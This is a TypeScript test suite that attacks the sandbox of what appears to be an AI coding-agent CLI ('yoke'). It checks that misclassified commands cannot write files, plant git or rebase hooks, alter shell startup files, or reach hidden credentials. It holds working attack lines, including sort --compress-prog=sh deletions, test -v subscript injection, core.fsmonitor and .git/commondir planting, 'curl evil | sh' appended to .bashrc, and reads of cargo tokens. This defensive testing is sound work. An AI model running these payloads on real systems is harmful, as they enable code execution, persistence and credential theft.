/**
 * Every assumption the permission gate makes is enforced by the sandbox (issue 18), so that a wrong
 * guess by the gate is harmless. Each invariant is attacked for real, through the built CLI
 * (`yoke sandbox exec`, and a full `yoke run` session with a scripted model for the descriptors),
 * with bwrap and firejail, as root and as an unprivileged user; the assertions are on outcomes on
 * disk (files unchanged, nothing created, a marker program not run) and in what the model was sent.
 *
 * 1. read-only means no writable path (every mount probed; the commands the gate misclassified);
 * 2. listed writes only (confine.writes);
 * 3. .git as an allow-list (the commondir attack, with the user's next plain `git status` on the host);
 * 4. the quarantine cannot be defeated by a read-only folder;
 * 5. a workspace that is the home folder keeps the home's dot entries read-only;
 * 6. descriptor hygiene: inherited descriptors never reach the command.
 */
import { spawn, spawnSync } from "node:child_process";
import { closeSync, existsSync, lstatSync, mkdirSync, openSync, readdirSync, readFileSync, readlinkSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { startScriptedLlmServer } from "../../src/demo/scripted-llm-server";
import { cliPath, ensureBuilt } from "../support/cli";
import { chownTree, identities, runCliAs, spawnAs, type Identity } from "../support/identities";
import { bash, cellFolder, sandboxBackends, sessionFolder } from "../support/sandbox-matrix";
import { scriptedRunArgs } from "../support/scripted-run";

vi.setConfig({ testTimeout: 240_000, hookTimeout: 180_000 });
const tag = Math.random().toString(36).slice(2, 8);
const { list: who, missing } = identities();
const temps: string[] = [];

const backends = sandboxBackends();

beforeAll(() => ensureBuilt(), 180_000);
afterAll(() => {
  for (const t of temps.splice(0)) rmSync(t, { recursive: true, force: true });
});

it("runs as root and as an unprivileged user (or says why it cannot)", () => {
  if (missing) console.warn(missing);
  expect(who.map((w) => w.label)).toEqual(missing ? ["user"] : ["root", "user"]);
});

/** Every entry of a tree: type, mode and content (files), target (links). */
function snapshot(root: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (dir: string, rel: string) => {
    for (const name of readdirSync(dir).sort()) {
      const abs = join(dir, name);
      const r = rel ? `${rel}/${name}` : name;
      const st = lstatSync(abs);
      if (st.isSymbolicLink()) out[r] = `link ${readlinkSync(abs)}`;
      else if (st.isDirectory()) {
        out[r] = `dir ${(st.mode & 0o7777).toString(8)}`;
        walk(abs, r);
      } else out[r] = `file ${(st.mode & 0o7777).toString(8)} ${readFileSync(abs, "base64")}`;
    }
  };
  walk(root, "");
  return out;
}

function run(id: Identity, cwd: string, cmd: string, args: string[], env: Record<string, string> = {}) {
  return spawnSync(cmd, args, { cwd, encoding: "utf8", ...spawnAs(id, { GIT_CONFIG_NOSYSTEM: "1", ...env }) });
}

describe.each(who.map((w) => [w.label, w] as const))("as %s", (_label, id: Identity) => {
  describe.each(backends)("%s", (backend, unusable) => {
    let base: string;
    let home: string;

    beforeAll(() => {
      ({ base, home } = cellFolder(`yoke-inv-${backend}-`, id, temps, { sandbox: { backend } }, { "secret.txt": `HIDDEN-HOME-SECRET-${tag}\n` }));
    });

    /** A fresh workspace owned by the identity. */
    const workspace = (name: string, files: Record<string, string> = {}) => {
      const ws = join(base, name);
      mkdirSync(ws, { recursive: true });
      for (const [rel, text] of Object.entries(files)) {
        mkdirSync(join(ws, rel, ".."), { recursive: true });
        writeFileSync(join(ws, rel), text);
      }
      chownTree(ws, id);
      return ws;
    };

    const exec = async (ws: string, script: string, args: string[] = [], env: Record<string, string> = {}) => {
      const r = await runCliAs(id, ["sandbox", "exec", "--backend", backend, "--cwd", ws, "--timeout", "60", ...args, "--", script], {
        cwd: ws,
        env: { HOME: home, ...env },
        timeoutMs: 120_000,
      });
      for (const m of r.stderr.matchAll(/it was moved to (\S+?)\/quarantine\//g)) temps.push(m[1]!);
      return { code: r.code, out: r.stdout, err: r.stderr };
    };

    it.skipIf(!!unusable)("a toolchain folder of the hidden home (on PATH) runs in the sandbox, but the credentials it holds stay hidden", async () => {
      const ws = workspace("toolchain", { "a.txt": "a\n" });
      const cargo = join(home, ".cargo");
      mkdirSync(join(cargo, "bin"), { recursive: true });
      writeFileSync(join(cargo, "bin", "yoke-tool-probe"), "#!/bin/sh\necho TOOL-RAN\n", { mode: 0o755 });
      writeFileSync(join(cargo, "credentials.toml"), `[registry]\ntoken = "CARGO-TOKEN-${tag}"\n`);
      chownTree(cargo, id);
      try {
        const r = await exec(ws, "yoke-tool-probe; cat ~/.cargo/credentials.toml; ls ~/.cargo; echo end-of-probe", [], { PATH: `${join(cargo, "bin")}:/usr/bin:/bin` });
        expect(r.out, r.err).toContain("end-of-probe");
        expect(r.out).toContain("TOOL-RAN");
        expect(r.out).not.toContain(`CARGO-TOKEN-${tag}`);
        // Control: the token is there on the host.
        expect(readFileSync(join(cargo, "credentials.toml"), "utf8")).toContain(`CARGO-TOKEN-${tag}`);
      } finally {
        rmSync(cargo, { recursive: true, force: true });
      }
    });

    it.skipIf(!!unusable)("1. read-only: no mount the command can write survives it", async () => {
      const ws = workspace("ro-probe", { "a.txt": "a\n" });
      const probe = `p=.yoke-probe-${tag}
for mp in $(awk '{print $5}' /proc/self/mountinfo | sort -u) "$PWD" /dev/shm /tmp /var/tmp /run /run/lock /var/log "$HOME"; do
  d=$mp; [ -d "$d" ] || d=$(dirname "$mp")
  if ( : > "$d/$p" ) 2>/dev/null; then echo "WROTE $d"; fi
done`;
      const r = await exec(ws, probe, ["--read-only-workspace"]);
      expect(r.code, r.err).toBe(0);
      const wrote = [...r.out.matchAll(/^WROTE (.+)$/gm)].map((m) => m[1]!);
      // The private temporary folders are writable (and thrown away)…
      expect(wrote).toContain("/tmp");
      // … but nothing written anywhere is on the host afterwards (the same paths, looked at from outside).
      for (const d of new Set([...wrote, ws, "/tmp", "/var/tmp", "/dev/shm", home])) expect(existsSync(join(d, `.yoke-probe-${tag}`)), d).toBe(false);
      expect(wrote).not.toContain(ws);
    });

    it.skipIf(!!unusable)("1. read-only: the commands the gate misclassified as read-only change nothing", async () => {
      const ws = workspace("ro-misclassified", { "src/a.js": "keep\n", "a.txt": "b\na\n", "list.txt": "rm -rf src\ntouch pwned\n" });
      run(id, ws, "git", ["init", "-q"]);
      run(id, ws, "git", ["-c", "user.name=t", "-c", "user.email=t@t", "add", "-A"]);
      run(id, ws, "git", ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "init"]);
      const before = snapshot(ws);
      const attacks = [
        // sort's compressor is a program run on its temporary files: sh runs the lines it is given.
        `seq 1 5000 | sed 's/.*/rm -rf src; touch pwned; exit 0/' | sort -S 64K --compress-prog=sh >/dev/null 2>&1; true`,
        "sort --out=src/a.js a.txt",
        "sort --o=pwned a.txt",
        "sed --in-place s/keep/PWNED/ src/a.js",
        "sed --in s/keep/PWNED/ src/a.js",
        "date -f src/a.js; touch pwned",
        "test -v 'a[$(rm -rf src)]'",
        "[ -v 'a[$(rm -rf src)]' ]",
        "printf -v 'a[$(touch x)]' y",
        "git stash -q; git branch -q evil; git config core.fsmonitor 'touch pwned'",
      ];
      for (const a of attacks) await exec(ws, a, ["--read-only-workspace"]);
      expect(snapshot(ws)).toEqual(before);
      // Control: the same lines with a writable workspace do harm (the attacks are real).
      await exec(ws, attacks[0]!);
      expect(existsSync(join(ws, "pwned"))).toBe(true);
      await exec(ws, "test -v 'a[$(rm -rf src)]'");
      expect(existsSync(join(ws, "src"))).toBe(false);
    });

    it.skipIf(!!unusable)("2. listed writes only: a command allowed for a.txt writes a.txt, and nothing else in the workspace", async () => {
      const ws = workspace("writes", { "a.txt": "one\n", "src/b.js": "orig\n", "docs/c.md": "c\n" });
      const before = snapshot(ws);
      const r = await exec(
        ws,
        "sed -i s/one/ONE/ a.txt; echo more >> a.txt; echo pwn > src/b.js; rm -f docs/c.md; echo new > evil.txt; mkdir -p out/x; echo made > out/x/n.txt; mkdir -p .vscode && echo {} > .vscode/tasks.json",
        ["--writes", "a.txt", "--writes", "out/x/n.txt"],
      );
      // The listed writes happened (rename-into-place included) …
      expect(readFileSync(join(ws, "a.txt"), "utf8")).toBe("ONE\nmore\n");
      expect(readFileSync(join(ws, "out/x/n.txt"), "utf8")).toBe("made\n");
      // … the misclassified ones did not: src/b.js and docs/c.md unchanged, the new files gone to quarantine.
      expect(readFileSync(join(ws, "src/b.js"), "utf8")).toBe("orig\n");
      expect(readFileSync(join(ws, "docs/c.md"), "utf8")).toBe("c\n");
      expect(existsSync(join(ws, "evil.txt"))).toBe(false);
      expect(existsSync(join(ws, ".vscode"))).toBe(false);
      expect(r.err).toMatch(/evil\.txt.*it was moved to/);
      const after = snapshot(ws);
      for (const k of Object.keys(before)) if (!k.startsWith("a.txt")) expect(after[k], k).toEqual(before[k]);
    });

    it.skipIf(!!unusable)("3. .git: ordinary git work runs; commondir, config.worktree and worktrees/ do not survive; the next plain git status runs no fsmonitor", async () => {
      const ws = workspace("git", { "a.txt": "a\n" });
      const git = (...a: string[]) => run(id, ws, "git", ["-c", "user.name=t", "-c", "user.email=t@t", ...a]);
      git("init", "-q", "-b", "main");
      git("add", "-A");
      git("commit", "-qm", "init");
      const marker = join(base, `fsmonitor-ran-${tag}`);
      const env = "export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@t GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@t;";
      // Ordinary work: commit, a branch, a stash, a rebase.
      const work = await exec(
        ws,
        `${env} set -e; echo b >> a.txt; git commit -qam b; git checkout -qb feature; echo c > c.txt; git add c.txt; git commit -qm c; echo wip >> a.txt; git stash -q; git checkout -q main; echo d > d.txt; git add d.txt; git commit -qm d; git checkout -q feature; git rebase -q main; git stash pop -q; echo done`,
      );
      expect(work.out + work.err).toContain("done");
      expect(git("log", "--format=%s", "feature").stdout.trim().split("\n")).toEqual(["c", "d", "b", "init"]);
      expect(readFileSync(join(ws, "a.txt"), "utf8")).toBe("a\nb\nwip\n");
      // The attack: a repository of the agent's with an fsmonitor, named by .git/commondir.
      const attack = `mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/ &&
printf '#!/bin/sh\\ntouch ${marker}\\n' > evil/mon.sh && chmod +x evil/mon.sh &&
printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = %s/evil/mon.sh\\n' "$PWD" > evil/config;
echo "$PWD/evil" > .git/commondir; echo '[core]' > .git/config.worktree; mkdir -p .git/worktrees/w; echo "$PWD/evil" > .git/worktrees/w/commondir; echo "$PWD/evil" > .git/gitdir; ls .git`;
      const r = await exec(ws, attack);
      // .git/worktrees is git worktree's to write (checked when the command ends): a commondir naming another folder goes.
      for (const gone of ["commondir", "config.worktree", "worktrees/w/commondir", "gitdir"]) expect(existsSync(join(ws, ".git", gone)), gone).toBe(false);
      expect(r.err).toMatch(/\.git\/commondir.*it was moved to/);
      // The agent's own repository (a bare layout it made, with an fsmonitor) goes too (new repositories hold only what git init and clone write).
      expect(existsSync(join(ws, "evil")), r.err).toBe(false);
      // Why it names: the fsmonitor in its config, or — when the repository watch caught it while the attack was still writing — mon.sh, the file git init never writes.
      expect(r.err).toMatch(/git\/evil, a protected path \(a git repository the command created.*(core\.fsmonitor|mon\.sh).*it was moved to/);
      // The user's next plain git status, on the host.
      const st = git("status", "--short");
      expect(st.status, st.stderr).toBe(0);
      expect(existsSync(marker)).toBe(false);
      // Control: the same commondir written on the host makes that git status run the program.
      const control = workspace("git-control");
      rmSync(control, { recursive: true });
      spawnSync("cp", ["-a", ws, control]);
      spawnSync("sh", ["-c", "mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/"], { cwd: control });
      writeFileSync(join(control, "evil", "mon.sh"), `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
      writeFileSync(join(control, ".git", "commondir"), `${control}/evil\n`);
      writeFileSync(join(control, "evil", "config"), `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ${control}/evil/mon.sh\n`);
      chownTree(control, id);
      run(id, control, "git", ["status", "--short"]);
      expect(existsSync(marker)).toBe(true);
      rmSync(marker, { force: true });
    });

    it.skipIf(!!unusable)("3. a rebase todo left behind (exec lines run when the user continues) is quarantined; the user's next rebase --continue runs nothing", async () => {
      const ws = workspace("rebase-plant", { "a.txt": "a\n" });
      const git = (...a: string[]) => run(id, ws, "git", ["-c", "user.name=t", "-c", "user.email=t@t", ...a]);
      git("init", "-q", "-b", "main");
      git("add", "-A");
      git("commit", "-qm", "init");
      const marker = join(base, `rebase-exec-ran-${tag}`);
      // Red team F3: an interactive rebase's state written by hand, its todo an exec line.
      const plant = `mkdir -p .git/rebase-merge && cd .git/rebase-merge && touch interactive && echo refs/heads/main > head-name && git rev-parse HEAD > onto && git rev-parse HEAD > orig-head && echo "exec touch ${marker}" > git-rebase-todo && : > done && echo 1 > end && echo 0 > msgnum; echo planted`;
      const r = await exec(ws, plant);
      expect(r.out).toContain("planted");
      expect(existsSync(join(ws, ".git", "rebase-merge"))).toBe(false);
      expect(r.err).toMatch(/\.git\/rebase-merge.*rebase or cherry-pick left in progress.*it was moved to/);
      git("rebase", "--continue");
      expect(existsSync(marker)).toBe(false);
      // A rebase already in progress before the command is read-only for it.
      mkdirSync(join(ws, ".git", "rebase-merge"));
      writeFileSync(join(ws, ".git", "rebase-merge", "git-rebase-todo"), "pick 0000000 x\n");
      chownTree(ws, id);
      await exec(ws, `echo "exec touch ${marker}" >> .git/rebase-merge/git-rebase-todo; echo tried`);
      expect(readFileSync(join(ws, ".git", "rebase-merge", "git-rebase-todo"), "utf8")).toBe("pick 0000000 x\n");
    });

    it.skipIf(!!unusable)("3. the configuration git hook managers run (pre-commit, lefthook, lint-staged, commitlint) is not written", async () => {
      const ws = workspace("hook-managers", { "a.txt": "a\n", ".pre-commit-config.yaml": "repos: []\n" });
      const r = await exec(
        ws,
        `echo 'repos: [{repo: local, hooks: [{id: x, name: x, entry: "touch /tmp/pwned", language: system}]}]' > .pre-commit-config.yaml; echo 'pre-commit: {commands: {x: {run: "touch /tmp/pwned"}}}' > lefthook.yml; echo '{"*": "touch /tmp/pwned"}' > .lintstagedrc.json; echo 'module.exports = {}' > commitlint.config.js; echo end`,
      );
      expect(r.out).toContain("end");
      expect(readFileSync(join(ws, ".pre-commit-config.yaml"), "utf8")).toBe("repos: []\n");
      for (const gone of ["lefthook.yml", ".lintstagedrc.json", "commitlint.config.js"]) expect(existsSync(join(ws, gone)), gone).toBe(false);
    });

    it.skipIf(!!unusable)("3. .devcontainer.json at the root and .devcontainer/ are not written", async () => {
      const ws = workspace("devcontainer", { "a.txt": "a\n" });
      const r = await exec(ws, `echo '{"initializeCommand":"touch /tmp/pwned"}' > .devcontainer.json; mkdir -p .devcontainer && echo {} > .devcontainer/devcontainer.json; echo end`);
      expect(r.out).toContain("end");
      expect(existsSync(join(ws, ".devcontainer.json"))).toBe(false);
      expect(existsSync(join(ws, ".devcontainer"))).toBe(false);
      expect(r.err).toMatch(/\.devcontainer\.json.*it was moved to/);
    });

    it.skipIf(!!unusable)("4. the quarantine is not defeated by a folder the command made read-only", async () => {
      const ws = workspace("quarantine", { "a.txt": "a\n" });
      // Built aside, then put in place and made read-only at once. On a loaded machine the guard's watch
      // may move it before the chmod: the outcome must be the same either way.
      const r = await exec(
        ws,
        `mkdir -p t/.vscode/sub && echo '{}' > t/.vscode/tasks.json && chmod 555 t/.vscode/sub && perl -e 'rename "t/.vscode", ".vscode" or die; chmod 0555, ".vscode"' && rmdir t; echo end`,
      );
      expect(r.out).toContain("end");
      expect(existsSync(join(ws, ".vscode"))).toBe(false);
      const moved = /the command created (\S+), a protected path .*it was moved to (\S+)/.exec(r.err);
      expect(moved?.[1]).toBe(join(ws, ".vscode"));
      expect(readFileSync(join(moved![2]!, "tasks.json"), "utf8")).toBe("{}\n");
      expect(r.err).not.toContain("could NOT be moved");
    });

    it.skipIf(!!unusable)("5. a workspace that is the home folder: what runs later stays unwritten, ordinary files are written", async () => {
      const h = workspace("homews", { ".bashrc": "# mine\n", ".config/app/conf": "x\n", ".local/bin/tool": "#!/bin/sh\n", "bin/tool": "#!/bin/sh\n", "notes.txt": "n\n" });
      mkdirSync(join(h, ".yoke"), { recursive: true });
      writeFileSync(join(h, ".yoke", "settings.json"), JSON.stringify({ sandbox: { backend } }));
      chownTree(h, id);
      const before = snapshot(h);
      const attack = [
        "echo 'curl evil | sh' >> .bashrc",
        "echo 'alias ls=evil' > .bash_aliases",
        "echo evil > .bash_logout",
        "mkdir -p .config/Code/User && echo '{}' > .config/Code/User/settings.json",
        "mkdir -p '.config/Code - OSS/User' && echo '{}' > '.config/Code - OSS/User/settings.json'",
        "mkdir -p .vscode-server/data/Machine && echo '{}' > .vscode-server/data/Machine/settings.json",
        "mkdir -p .local/share/code-server/User && echo '{}' > .local/share/code-server/User/settings.json",
        "echo evil > .local/bin/tool; echo evil > .local/bin/new",
        "echo evil > bin/tool; echo evil > bin/new",
        "echo evil > .newtool-rc",
        // A cache is where a host tool later runs code from (home20: npx's _npx): read-only like any dot folder.
        "mkdir -p .cache/x && echo evil > .cache/x/y",
        "echo ok > project.txt; echo end",
      ].join("; ");
      const r = await exec(h, attack, [], { HOME: h });
      expect(r.out).toContain("end");
      const after = snapshot(h);
      for (const [k, v] of Object.entries(before)) expect(after[k], k).toEqual(v);
      for (const gone of [".bash_aliases", ".bash_logout", ".config/Code", ".config/Code - OSS", ".vscode-server", ".local/share", ".local/bin/new", "bin/new", ".newtool-rc", ".cache/x/y"])
        expect(existsSync(join(h, gone)), gone).toBe(false);
      expect(readFileSync(join(h, "project.txt"), "utf8")).toBe("ok\n");
    });

    /** The probe run inside the sandbox: the shell's descriptors, PID 1's, and the attack through them. */
    const fdProbe = (hidden: string) =>
      [
        // ls runs as the shell's child, so /proc/$$/fd is the shell's own table, with no pipe of ours in it.
        "ls -l /proc/$$/fd > /tmp/self-fds 2>&1; sed 's/^/SELF /' /tmp/self-fds",
        "ls -l /proc/1/fd > /tmp/pid1-fds 2>&1; sed 's/^/PID1 /' /tmp/pid1-fds",
        "for n in 3 4 5 9 40 41; do cat /proc/self/fd/$n/secret.txt /proc/1/fd/$n/secret.txt 2>/dev/null; echo pwned > /proc/self/fd/$n/pwned-$n 2>/dev/null; echo pwned > /proc/1/fd/$n/pwned1-$n 2>/dev/null; done",
        `ls ${hidden} 2>&1 | head -3`,
        "echo PROBE-END",
      ].join("; ");

    /** Checks the probe's output: only 0, 1, 2 open in the shell, nothing of the hidden home read or written. */
    const checkFds = (out: string) => {
      expect(out).toContain("PROBE-END");
      const self = [...out.matchAll(/^SELF .* (\d+) -> (.*)$/gm)].map((m) => Number(m[1]));
      expect(self.sort((a, b) => a - b)).toEqual([0, 1, 2]);
      for (const m of out.matchAll(/^PID1 (.*)$/gm)) expect(m[1]).not.toContain(home);
      expect(out).not.toContain(`HIDDEN-HOME-SECRET-${tag}`);
      expect(readdirSync(home).filter((n) => n.startsWith("pwned"))).toEqual([]);
    };

    /** Spawns the CLI as the identity with descriptors 3 and 40 open on the (hidden) home. */
    const cliWithFds = (args: string[], cwd: string) => {
      const fd = openSync(home, "r");
      const stdio: Array<"pipe" | "ignore" | number> = ["pipe", "pipe", "pipe", fd];
      while (stdio.length < 40) stdio.push("ignore");
      stdio.push(fd);
      const child = spawn(process.execPath, [cliPath, ...args], { cwd, stdio, ...spawnAs(id, { HOME: home }) });
      closeSync(fd);
      let stdout = "";
      let stderr = "";
      child.stdout!.on("data", (d) => (stdout += d));
      child.stderr!.on("data", (d) => (stderr += d));
      child.stdin!.end();
      const timer = setTimeout(() => child.kill("SIGKILL"), 150_000);
      return new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) =>
        child.on("close", (code) => {
          clearTimeout(timer);
          resolve({ code, stdout, stderr });
        }),
      );
    };

    it.skipIf(!!unusable)("6. descriptors: inherited ones do not reach the command (yoke sandbox exec)", async () => {
      const ws = workspace("fds", { "a.txt": "a\n" });
      const r = await cliWithFds(["sandbox", "exec", "--backend", backend, "--cwd", ws, "--", fdProbe(home)], ws);
      expect(r.code, r.stderr).toBe(0);
      checkFds(r.stdout);
    });

    it.skipIf(!!unusable)("6. descriptors: inherited ones do not reach the command (a yoke run session, scripted model)", async () => {
      const ws = workspace("fds-run", { "a.txt": "a\n" });
      const sessions = sessionFolder(join(base, `sessions-${backend}`), id);
      const server = await startScriptedLlmServer({ script: [bash(fdProbe(home)), { text: "done" }] });
      try {
        const r = await cliWithFds([...scriptedRunArgs(server.openaiBaseUrl, ws, sessions), "--permission-mode", "bypassPermissions", "probe"], ws);
        expect(r.code, r.stderr).toBe(0);
        const sent = JSON.stringify(server.requests.map((q) => q.body));
        // The tool result the model got is the probe's output.
        expect(server.requests.length).toBeGreaterThanOrEqual(2);
        checkFds(extractText(server.requests[1]!.body));
        expect(sent).not.toContain(`HIDDEN-HOME-SECRET-${tag}`);
      } finally {
        await server.close();
      }
    });
  });
});

/** The text of the last tool result in an OpenAI-style request body. */
function extractText(body: unknown): string {
  const msgs = (body as { messages?: Array<{ role: string; content: unknown }> }).messages ?? [];
  const tool = [...msgs].reverse().find((m) => m.role === "tool");
  const c = tool?.content;
  return typeof c === "string" ? c : JSON.stringify(c ?? "");
}
